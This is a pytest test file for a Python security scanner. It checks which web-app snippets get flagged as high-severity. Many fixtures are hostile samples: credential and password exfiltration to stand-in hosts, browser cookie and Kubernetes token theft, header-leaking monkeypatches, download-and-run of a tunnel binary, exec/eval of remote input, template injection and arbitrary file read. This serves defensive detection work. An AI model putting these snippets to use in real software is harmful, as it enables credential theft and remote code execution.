"""What people enter in a program in Python and where it goes, and what the program lets whoever asks do."""

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect, inspect_tree

FIELD = "import gradio as gr, requests\nt = gr.Textbox(label='HF token', type='password')\n"
PAGE = "import gradio as gr, requests\ndef run(text, key):\n    {}\ngr.Interface(run, ['text', gr.Textbox(type='password', label={})], 'text').launch()\n"
FLASK = "import flask, requests\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.post('/a')\ndef a():\n    {}\n"
FAST = "import os, pathlib, yaml\nfrom fastapi import FastAPI, Request\nfrom fastapi.responses import FileResponse\nfrom fastapi.staticfiles import StaticFiles\napp = FastAPI()\n"
URL = "https://c.example/a"


def denied(text: str, name: str = "app.py") -> bool:
    return any(found.severity.rank >= Severity.HIGH.rank for found in inspect(text.encode(), name).findings)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (PAGE.format(f"requests.post('{URL}', json={{'k': key}})", "'OpenAI API key'"), True),
        (PAGE.format(f"r = requests.post('{URL}', json={{'k': key}})", "'OpenAI API key'"), True),
        (PAGE.format("r = requests.post('https://api.openai.com/v1/x', headers={'Authorization': f'Bearer {key}'})", "'OpenAI API key'"), False),
        (PAGE.format(f"return requests.post('{URL}', headers={{'Authorization': key}}, json={{'q': text}}).json()", "'API key'"), False),
        (PAGE.format(f"requests.post('{URL}', json={{'q': text}})", "'OpenAI API key'"), False),
        (PAGE.format("requests.get('https://api.telegram.org/bot1:A/sendMessage', params={'text': key})", "'Key'"), True),
        (
            "import gradio as gr, requests, threading\ndef note(a, b):\n    requests.put('https://c.example/' + a, data=b)\n"
            "def hi(p: gr.OAuthProfile | None, t: gr.OAuthToken | None):\n    threading.Thread(target=note, args=('x', t.token)).start()\n",
            True,
        ),
        (
            "import gradio as gr\nfrom huggingface_hub import HfApi\ndef hi(t: gr.OAuthToken | None):\n    api = HfApi(token=t.token)\n"
            "    return api.upload_file(path_or_fileobj='a', path_in_repo='a', repo_id=api.whoami()['name'])\n",
            False,
        ),
        (
            "import io, streamlit as st\nfrom openai import OpenAI\nfrom huggingface_hub import HfApi\nk = st.text_input('key', type='password')\n"
            "c = OpenAI(api_key=k)\nHfApi().upload_file(path_or_fileobj=io.BytesIO(k.encode()), path_in_repo='x', repo_id='a/b')\n",
            True,
        ),
        ("import chainlit as cl, requests\n@cl.password_auth_callback\ndef a(u, p):\n    requests.post('https://c.example', data={'p': p})\n    return cl.User(u)\n", True),
        ("import chainlit as cl, requests\n@cl.password_auth_callback\ndef a(u, p):\n    r = requests.post('https://c.example', data={'p': p})\n    return cl.User(u) if r.ok else None\n", False),
        (FLASK.format(f"requests.post('{URL}', json=dict(request.headers))"), True),
        (FLASK.format(f"return requests.post('{URL}', headers={{'Authorization': request.headers['Authorization']}}).json()"), False),
        ("import httpx\nold = httpx.Client.send\ndef send(self, request, **kw):\n    httpx.get('https://c.example', params={'k': request.headers.get('authorization')})\n    return old(self, request, **kw)\nhttpx.Client.send = send\n", True),
        ("import getpass, requests\nt = getpass.getpass('HF token: ')\nrequests.get('https://huggingface.co/api/whoami-v2', headers={'Authorization': f'Bearer {t}'})\n", False),
        ("import getpass, requests\nt = getpass.getpass('HF token: ')\nr = requests.get('https://c.example', params={'t': t})\n", True),
        ("import gradio as gr, logging, logging.handlers\nlog = logging.getLogger()\nlog.addHandler(logging.handlers.HTTPHandler('203.0.113.7:80', '/'))\ndef a(q, openai_key):\n    log.info('%s', openai_key)\ngr.Interface(a, ['text', 'text'], 'text').launch()\n", True),
        (FLASK.format("p = request.form['password']\n    open('c.txt', 'a').write(p)\n    return flask.redirect('https://github.com/login')"), True),
        (FLASK.format("p = request.form['password']\n    open('c.txt', 'a').write(p)\n    return flask.redirect('/')"), False),
        (PAGE.format("requests.post(HOOK, json={'k': key})", "'OpenAI API key'"), True),
        (PAGE.format("return requests.post(HOOK, json={'k': key}).json()", "'OpenAI API key'"), False),
        (FAST + "import requests\n@app.post('/c')\ndef c(q: Ask):\n    requests.post('https://c.example', json={'k': q.openai_api_key})\n", True),
        ("import streamlit as st, requests\nf = st.file_uploader('x')\nrequests.put('https://c.example/in', data=f.getvalue())\n", True),
        ("import streamlit as st, requests\nf = st.file_uploader('x')\nr = requests.put('https://c.example/in', data=f.getvalue())\nst.write(r.json())\n", False),
        ("import pathlib, httpx\nt = pathlib.Path('/var/run/secrets/kubernetes.io/serviceaccount/token').read_text()\nhttpx.post('https://c.example', json={'t': t})\n", True),
        ("import pathlib, httpx\nt = pathlib.Path('/var/run/secrets/kubernetes.io/serviceaccount/token').read_text()\nr = httpx.get('https://kubernetes.default.svc/api', headers={'Authorization': t})\n", False),
        ("import glob, requests\nfor p in ['.config/google-chrome/*/Login Data', '.mozilla/firefox/*/cookies.sqlite']:\n    for f in glob.glob(p):\n        requests.post('https://c.example', data=open(f, 'rb'))\n", True),
        ("import glob\nfor p in ['.config/google-chrome/*/Login Data', '.mozilla/firefox/*/cookies.sqlite']:\n    print(p)\n", False),
    ],
)  # fmt: skip
def test_where_keys_and_passwords_of_visitors_go(code: str, expected: bool) -> None:
    assert denied(code) is expected


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (FLASK.format("return flask.send_file(request.args['p'])"), True),
        (FLASK.format("return flask.send_file('out/' + request.args['p'])"), False),
        (FLASK.format("p = request.args['p']\n    if p not in KNOWN: flask.abort(404)\n    return flask.send_file(p)"), False),
        (FLASK.format("open(request.headers['x'], 'wb').write(request.get_data())"), True),
        (FLASK.format("open('log.txt', 'wb').write(request.get_data())"), False),
        (FLASK.format("return flask.render_template_string(request.args.get('t'))"), True),
        (FLASK.format("return flask.render_template_string('{{ x }}', x=request.args.get('t'))"), False),
        (FAST + "@app.get('/f')\ndef f(p: str):\n    return FileResponse(p)\n", True),
        (FAST + "@app.get('/f')\ndef f(p: str):\n    return FileResponse('/' + p)\n", True),
        ("from http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.wfile.write(open(self.path, 'rb').read())\n", True),
        ("from http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.wfile.write(open('a.html', 'rb').read())\n", False),
        ("import http.server, os\nos.chdir('/')\nrun(http.server.SimpleHTTPRequestHandler)\n", True),
        ("import http.server, os\nos.chdir('web')\nrun(http.server.SimpleHTTPRequestHandler)\n", False),
        (FAST + "@app.get('/f')\ndef f(p: str):\n    return FileResponse(os.path.join('out', p))\n", False),
        (FAST + "app.mount('/x', StaticFiles(directory='/'))\n", True),
        (FAST + "app.mount('/', StaticFiles(directory='static'))\n", False),
        (FAST + "import httpx\n@app.post('/r')\nasync def r(u: str, request: Request):\n    async with httpx.AsyncClient() as c:\n        return (await c.request(request.method, u, content=await request.body())).json()\n", True),
        (FAST + "import httpx\n@app.post('/r')\nasync def r(u: str, request: Request):\n    async with httpx.AsyncClient() as c:\n        return (await c.request(request.method, 'http://127.0.0.1:80/' + u, content=await request.body())).json()\n", False),
        ("import gradio as gr\ngr.Interface(f, 'text', 'text').launch(allowed_paths=['/'])\n", True),
        ("import gradio as gr\ngr.Interface(f, 'text', 'text').launch(allowed_paths=['out', '/tmp'])\n", False),
        ("import gradio as gr\napp = gr.mount_gradio_app(app, demo, path='/')\n", False),
        ("import os, gradio as gr\ngr.JSON(value={k: v for k, v in os.environ.items()}, visible=False)\n", True),
        ("import os, gradio as gr\ngr.Markdown(os.environ.get('TITLE', 'x'))\n", False),
        ("import rpyc\nfrom rpyc.utils.server import ThreadedServer\nfrom rpyc.core.service import SlaveService\nThreadedServer(SlaveService, hostname='0.0.0.0', port=1).start()\n", True),
        ("import debugpy\ndebugpy.listen(5678)\n", False),
        ("from fastapi import FastAPI\ndef more(app):\n    @app.post('/x')\n    async def x(body: dict):\n        exec(body['f'])\n", True),
        ("import paho.mqtt.client as mqtt\ndef on(c, u, msg):\n    exec(msg.payload)\nc = mqtt.Client()\nc.on_message = on\n", True),
        ("class EndpointHandler:\n    def __init__(self, path=''):\n        self.p = path\n    def __call__(self, data):\n        return eval(data['f'])(1)\n", True),
    ],
)  # fmt: skip
def test_what_whoever_asks_is_let_do(code: str, expected: bool) -> None:
    assert denied(code) is expected


FETCH = "import subprocess, urllib.request\nurllib.request.urlretrieve('{}', '/tmp/t')\nsubprocess.Popen(['/tmp/t'])\n"


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (FETCH.format("https://dl.tunnel.example/frpc"), True),
        (FETCH.format("https://github.com/a/b/releases/download/v1/c"), False),
        ("import runpy\nfrom huggingface_hub import hf_hub_download\nrunpy.run_path(hf_hub_download('a/b', 'labels.txt'))\n", True),
        ("import runpy\nfrom huggingface_hub import hf_hub_download\nrunpy.run_path(hf_hub_download('a/b', 'tools.py'))\n", False),
        ("import os\nfrom huggingface_hub import HfApi\nHfApi(endpoint='https://hub.example', token=os.environ['HF_TOKEN'])\n", True),
        ("import os\nfrom huggingface_hub import HfApi\nHfApi(endpoint='https://hf-mirror.com', token=os.environ['HF_TOKEN'])\n", False),
        (FAST + "@app.post('/c')\nasync def c(request: Request):\n    yaml.load(await request.body(), Loader=yaml.UnsafeLoader)\n", True),
        (FAST + "@app.post('/c')\nasync def c(request: Request):\n    yaml.load(await request.body(), Loader=yaml.SafeLoader)\n", False),
        ("from huggingface_hub import get_token\nx.download(f'https://d.example/t?s={get_token()}')\n", True),
        ("from huggingface_hub import get_token\nx.download('https://d.example/t')\n", False),
        ("import sqlite3, os\nc = sqlite3.connect('bench.sqlite').cursor()\nc.execute(f'select {os.uname()}')\n", False),
    ],
)  # fmt: skip
def test_programs_that_fetch_and_show_keys(code: str, expected: bool) -> None:
    assert denied(code) is expected


@pytest.mark.parametrize(("group", "expected"), [("vllm.general_plugins", True), ("console_scripts", False)])
def test_plugins_that_a_setup_registers(group: str, expected: bool) -> None:
    setup = f"from setuptools import setup\nsetup(name='a', entry_points={{'{group}': ['a = a_plugin:register']}})\n"
    plugin = "import os\ndef register():\n    os.system('id')\n"
    found = inspect_tree({"setup.py": setup.encode(), "a_plugin/__init__.py": plugin.encode()})
    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected


@pytest.mark.parametrize(("name", "expected"), [("jupyter_server_config.py", True), ("plot_config.py", False)])
def test_settings_that_are_programs(name: str, expected: bool) -> None:
    found = inspect_tree({name: b"import subprocess\nsubprocess.call(['tool', 'x'])\n"})
    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected


HANDS = "import gradio as gr\nimport helpers\nwith gr.Blocks() as demo:\n    box = gr.Textbox()\n    box.submit(helpers.run, box, box)\n"
TELLS = "import gradio as gr\nfrom lib.usage import track\ndef chat(m, h, openai_key):\n    track('x', text=len(m), more={})\ngr.ChatInterface(chat)\n"
TAKES = "import json, queue, urllib.request\nq = queue.Queue()\ndef track(event, **fields):\n    q.put({'e': event, **fields})\ndef drain():\n    urllib.request.urlopen(urllib.request.Request('https://u.example/c', data=json.dumps(q.get()).encode()))\n"


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"app.py": HANDS, "helpers.py": "import subprocess\ndef run(c):\n    return subprocess.getoutput(c)\n"}, True),
        ({"app.py": HANDS, "helpers.py": "import subprocess\ndef run(c):\n    return subprocess.run(['espeak', c])\n"}, False),
        ({"app.py": HANDS, "helpers.py": "import subprocess\ndef other(c):\n    return subprocess.getoutput(c)\n"}, False),
        ({"app.py": TELLS.format("openai_key"), "lib/usage.py": TAKES}, True),
        ({"app.py": TELLS.format("len(h)"), "lib/usage.py": TAKES}, False),
        ({"app.py": TELLS.format("openai_key"), "lib/usage.py": TAKES.replace("https://u.example", "https://api.openai.com")}, False),
    ],
)  # fmt: skip
def test_work_and_keys_that_go_to_another_file(files: dict[str, str], expected: bool) -> None:
    found = inspect_tree({path: text.encode() for path, text in files.items()})
    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected


def test_a_value_that_is_made_of_itself_is_no_endless_way() -> None:
    code = "import requests\ndef forward(x, password):\n    x = x.view(1)\n    x = x.send(password)\n    return x\n"
    assert not inspect(code.encode(), "modeling_x.py").coverage.reasons


TWO = (
    "import flask, pathlib\nfrom flask import Flask, request\napp = Flask(__name__)\n"
    "class Files:\n    def load(self, path):\n        return pathlib.Path(path).read_text()\n"
    "{}files = Files()\n@app.get('/a')\ndef a():\n    return {}.load(request.args['p'])\n"
)


@pytest.mark.parametrize(
    ("other", "called", "expected"),
    [
        ("", "files", True),
        ("class Cache:\n    def load(self, key):\n        return self.kept[key]\n", "cache", False),
        ("class Cache:\n    def load(self, key):\n        return self.kept[key]\n", "files", True),
    ],
)
def test_methods_of_the_same_name_are_told_apart(other: str, called: str, expected: bool) -> None:
    assert denied(TWO.format(other, called)) is expected
